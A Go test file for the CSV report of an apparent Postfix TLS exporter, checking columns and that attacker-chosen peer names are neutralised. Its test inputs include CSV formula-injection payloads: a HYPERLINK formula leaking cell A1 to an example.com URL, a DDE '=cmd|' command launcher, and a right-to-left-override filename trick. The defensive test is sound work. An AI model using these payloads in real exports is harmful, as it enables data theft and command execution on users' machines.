package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/postfix-tls-exporter/postfix-tls-exporter/internal/tally"
)

// TestCSV writes a line for each peer and way, and each line has all columns.
func TestCSV(t *testing.T) {
	at := func(hour int) time.Time {
		return time.Date(2026, 11, 22, hour, 0, 0, 120_000_000, time.FixedZone("", 3600))
	}
	encrypted := tally.CountKey{Instance: "postfix", Service: "smtpd", Class: "public", TLS: "established", Protocol: "TLSv1.3", Cipher: "TLS_AES_256_GCM_SHA384"}
	s := &tally.Snapshot{Peers: []tally.PeerRow{
		{Direction: "inbound", Peer: "a.example.net", Class: "public", Sessions: 5, Messages: 3, Combinations: []tally.PeerCount{
			{CountKey: encrypted, Sessions: 4, Messages: 3, First: at(1), Last: at(3), LastMessage: new(at(2))},
			{CountKey: tally.CountKey{Instance: "postfix-2", Service: "submission", Class: "private", TLS: "failed"}, Sessions: 1, First: at(4), Last: at(4)},
		}},
		{Direction: "outbound", Peer: "silent.example.net"},
	}}
	const want = "direction,peer,class,service,instance,tls,protocol,cipher,sessions,messages,first,last,last_message\r\n" +
		"inbound,a.example.net,public,smtpd,postfix,established,TLSv1.3,TLS_AES_256_GCM_SHA384,4,3," +
		"2026-11-22T01:00:00.12+01:00,2026-11-22T03:00:00.12+01:00,2026-11-22T02:00:00.12+01:00\r\n" +
		"inbound,a.example.net,private,submission,postfix-2,failed,,,1,0,2026-11-22T04:00:00.12+01:00,2026-11-22T04:00:00.12+01:00,\r\n"
	var out bytes.Buffer
	if err := CSV(&out, s); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestCSVIsHarmless reads back what strangers may have chosen: each name is in one cell, and none is a formula.
func TestCSVIsHarmless(t *testing.T) {
	names := []struct{ name, cell string }{
		{"mail.example.net", "mail.example.net"},
		{"a-b=c+d@example.net", "a-b=c+d@example.net"},
		{`=HYPERLINK("https://example.com/?"&A1,"mail")`, `'=HYPERLINK("https://example.com/?"&A1,"mail")`},
		{"=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"  =1", "'  =1"},
		{"\u3000=1", "'\u3000=1"},
		{"\u00a0@A1", "'\u00a0@A1"},
		{"＝1", "'＝1"},
		{"\t=1", "'?=1"},
		{"\rmail", "'?mail"},
		{"\nmail", "'?mail"},
		{"\u200b=1", "'?=1"},
		{"\x00=1", "'?=1"},
		{"\xff=1", "'?=1"},
		{"a\",\"b\"\n\"c;d\te", `a","b"?"c;d?e`},
		{"mail\u202egpj.exe\x1b[31m", "mail?gpj.exe?[31m"},
		{"", ""},
	}
	s := &tally.Snapshot{}
	for _, n := range names {
		c := tally.PeerCount{CountKey: tally.CountKey{Service: n.name, Instance: n.name, Cipher: n.name}}
		s.Peers = append(s.Peers, tally.PeerRow{Direction: "inbound", Peer: n.name, Combinations: []tally.PeerCount{c}})
	}
	var out bytes.Buffer
	if err := CSV(&out, s); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != len(names)+1 || strings.Count(text, "\n") != len(rows) || strings.Count(text, "\r\n") != len(rows) {
		t.Fatalf("%d rows, %v:\n%q", len(rows), err, text)
	}
	for i, n := range names {
		row := rows[i+1]
		want := []string{"inbound", n.cell, "", n.cell, n.cell, "", "", n.cell}
		if diff := cmp.Diff(want, row[:len(want)]); diff != "" {
			t.Errorf("%q (-want +got):\n%s", n.name, diff)
		}
	}
}
